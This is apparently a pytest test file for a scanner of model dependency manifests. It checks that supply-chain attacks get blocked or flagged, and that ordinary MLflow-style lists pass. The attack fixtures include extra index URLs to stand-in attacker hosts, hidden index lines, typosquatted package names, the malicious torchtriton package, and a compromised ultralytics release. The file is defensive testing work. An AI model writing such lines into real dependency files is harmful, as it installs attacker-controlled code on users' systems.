"""Attacks by what a model asks to be installed, as they were published. Success rate of those below: 0.

Dependency confusion: Birsan, "Dependency Confusion", 2021; torchtriton, December 2022. Imitated names: Vu et al., 2020.
Compromised releases: ultralytics, December 2024. Vulnerable loaders: CVE-2025-32434 and others.
"""

import pytest

from fastness.models.scan import Outcome
from tests.unit.models.scan.artifacts import report_of, rules_of

ATTACKS = {
    "dependency confusion by a second index": ("requirements.txt", "--extra-index-url https://packages.evil.example/simple\nmodel-internal==9.9\n"),
    "an index in the clear": ("requirements.txt", "-i http://198.51.100.7/simple\ntorch==2.6.0\n"),
    "an index hidden behind a continued line": ("requirements.txt", "numpy==2.1.0 \\\n\n--index-\\\nurl http://198.51.100.7/simple\n"),
    "an index behind a comment": ("requirements.txt", "# only numpy\nnumpy==2.1.0 # --index-url\n--extra-index-url=https://evil.example\n"),
    "links to packages": ("requirements-dev.txt", "--find-links https://evil.example/wheels\n"),
    "a direct address in a dependency": ("requirements.txt", "numpy @ https://evil.example/numpy-2.1.0-py3-none-any.whl\n"),
    "a branch that moves": ("requirements.txt", "git+https://evil.example/x@main\n"),
    "a wheel that lies beside": ("requirements.txt", "./libs/helper-1.0-py3-none-any.whl\n"),
    "a constraint file that moves the versions": ("requirements.txt", "-c https://evil.example/constraints.txt\nnumpy\n"),
    "an imitated name": ("requirements.txt", "tensorfllow==2.16.1\n"),
    "an imitated name in conda": ("conda.yaml", "dependencies:\n- nunpy=1.26\n"),
    "pip within conda": ("conda.yaml", "dependencies:\n- pip:\n  - --index-url http://198.51.100.7/simple\n"),
    "a channel of conda": ("conda.yaml", "channels: [https://evil.example/channel]\ndependencies: [numpy=2.1]\n"),
    "an imitated name in a project": ("pyproject.toml", '[project]\ndependencies = ["pytroch-lightning"]\n'),
    "a source of Poetry": ("pyproject.toml", '[[tool.poetry.source]]\nname = "x"\nurl = "https://evil.example/simple"\n'),
    "build options": ("requirements.txt", 'x==1.0 --config-settings="--build-option=--command"\n'),
    "torchtriton": ("requirements.txt", "torchtriton==2.0.0\n"),
    "a compromised release": ("requirements.txt", "ultralytics==8.3.42\n"),
    "a loader that runs weights": ("requirements.txt", "torch==2.5.1\n"),
    "a loader that runs YAML": ("python_env.yaml", "python: 3.8\ndependencies: [pyyaml==5.3]\n"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "text"), ATTACKS.values(), ids=ATTACKS)
def test_the_attack_does_not_pass(name: str, text: str) -> None:
    assert report_of(text.encode(), name).outcome in {Outcome.BLOCK, Outcome.REVIEW}


HONEST = {
    "what MLflow saves": ("requirements.txt", "mlflow==2.19.0\ncloudpickle==3.1.0\nnumpy==2.1.3\npsutil==6.1.0\nscikit-learn==1.6.0\nscipy==1.14.1\n"),
    "MLflow's conda": ("conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.11.10\n- pip<=24.2\n- pip:\n  - mlflow==2.19.0\n  - scikit-learn==1.6.0\nname: mlflow-env\n"),
    "MLflow's virtualenv": ("python_env.yaml", "python: 3.11.10\nbuild_dependencies:\n- pip==24.2\n- setuptools==75.1.0\n- wheel==0.44.0\ndependencies:\n- pandas==2.2.3\n"),
    "a loose list": ("requirements.txt", "# needed\ntransformers>=4.40\ntorch\naccelerate ; python_version >= '3.9'\nsentencepiece!=0.1.92\n"),
    "hashes": ("requirements.txt", "numpy==2.1.3 \\\n    --hash=sha256:aaaa \\\n    --hash=sha256:bbbb\n"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "text"), HONEST.values(), ids=HONEST)
def test_honest_lists_pass(name: str, text: str) -> None:
    report = report_of(text.encode(), name)
    assert report.outcome is Outcome.PASS, report.table()


@pytest.mark.parametrize("line", ["a; " + "(" * 5000, "b==" + "(" * 5000])
def test_markers_that_nest_without_end_are_no_fault_of_the_reader(line: str) -> None:
    assert rules_of(report_of(line.encode(), "requirements.txt")) == {"requirements-malformed"}
